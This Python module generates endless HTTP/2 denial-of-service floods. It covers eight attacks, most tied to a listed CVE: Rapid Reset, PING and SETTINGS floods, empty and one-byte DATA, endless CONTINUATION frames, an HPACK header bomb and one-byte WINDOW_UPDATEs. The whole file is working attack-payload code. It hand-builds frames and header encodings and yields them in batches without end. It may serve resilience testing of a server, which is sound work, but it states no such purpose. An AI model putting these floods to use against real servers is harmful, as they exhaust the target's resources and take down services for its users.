"""HTTP/2 frames that cost the receiver more than the sender: endless floods for one connection.

| flood          | frames                                                        | known as                     |
|----------------|---------------------------------------------------------------|------------------------------|
| rapid_reset    | HEADERS, RST_STREAM on one stream after the other             | CVE-2023-44487               |
| pings          | PING: each wants an answer                                    | CVE-2019-9512                |
| settings       | SETTINGS without a setting: each wants an answer              | CVE-2019-9515                |
| empty_data     | DATA of no bytes on an open stream                            | CVE-2019-9518                |
| tiny_data      | DATA of one byte on an open stream                            | CVE-2019-9511                |
| continuation   | HEADERS that never end                                        | CVE-2024-27316 and kin       |
| hpack_bomb     | a request of 40 bytes whose headers are 60 kB                 | CVE-2016-6581                |
| window_updates | WINDOW_UPDATE by one byte                                     | -                            |

A flood yields (bytes, how many frames they are), for ever. Source: RFC 9113 §6, RFC 7541 §6.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from struct import Struct

Flood = Iterator[tuple[bytes, int]]

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
BATCH = 200
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

_HEADER = Struct(">BHBBI")  # length in 8 + 16 bits, type, flags, stream
_WORD = Struct(">I")


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return _HEADER.pack(len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream) + payload


def literal(index: int, value: bytes, *, keep: bool = False) -> bytes:
    """A header whose name is the static table's at `index`, below 15. keep: in the dynamic table, too."""
    return bytes([0x40 * keep | index]) + _length(len(value)) + value


def _length(size: int) -> bytes:
    if size < 127:
        return bytes([size])
    rest, encoded = size - 127, bytearray([127])
    while rest >= 128:
        encoded.append(rest % 128 | 128)
        rest //= 128
    return bytes([*encoded, rest])


POST, HTTPS, AUTHORITY, PATH, STATUS_200, FIRST_DYNAMIC = 0x83, 0x87, 1, 4, 0x88, 0xBE
REQUEST = bytes([POST, HTTPS]) + literal(AUTHORITY, b"control") + literal(PATH, b"/machine/map")
OPENING = PREFACE + frame(SETTINGS)


def rapid_reset() -> Flood:
    cancelled = _WORD.pack(CANCEL)
    for first in itertools.count(1, 2 * BATCH):
        streams = range(first, first + 2 * BATCH, 2)
        pairs = (
            frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, cancelled)
            for stream in streams
        )
        yield b"".join(pairs), BATCH


def pings() -> Flood:
    return _same(frame(PING, payload=b"flooding"))


def settings() -> Flood:
    return _same(frame(SETTINGS))


def window_updates() -> Flood:
    return _same(frame(WINDOW_UPDATE, payload=_WORD.pack(1)))


def empty_data() -> Flood:
    yield frame(HEADERS, END_HEADERS, 1, REQUEST), 1
    yield from _same(frame(DATA, 0, 1))


def tiny_data() -> Flood:
    yield frame(HEADERS, END_HEADERS, 1, REQUEST), 1
    yield from _same(frame(DATA, 0, 1, b"{"))


def continuation() -> Flood:
    yield frame(HEADERS, END_STREAM, 1, REQUEST), 1
    yield from _same(frame(CONTINUATION, 0, 1))


def hpack_bomb() -> Flood:
    """Each request names one kept header of 4 kB fifteen times."""
    kept = literal(AUTHORITY, b"a" * 4000, keep=True)
    request = bytes([POST, HTTPS, FIRST_DYNAMIC]) + literal(PATH, b"/") + bytes([FIRST_DYNAMIC]) * 14
    opening = bytes([POST, HTTPS]) + kept + literal(PATH, b"/")
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, opening), 1
    for first in itertools.count(3, 2 * BATCH):
        streams = range(first, first + 2 * BATCH, 2)
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, request) for stream in streams), BATCH


FLOODS: dict[str, Callable[[], Flood]] = {
    flood.__name__: flood
    for flood in (rapid_reset, pings, settings, empty_data, tiny_data, continuation, hpack_bomb, window_updates)
}


def _same(one: bytes) -> Flood:
    return itertools.repeat((one * BATCH, BATCH))
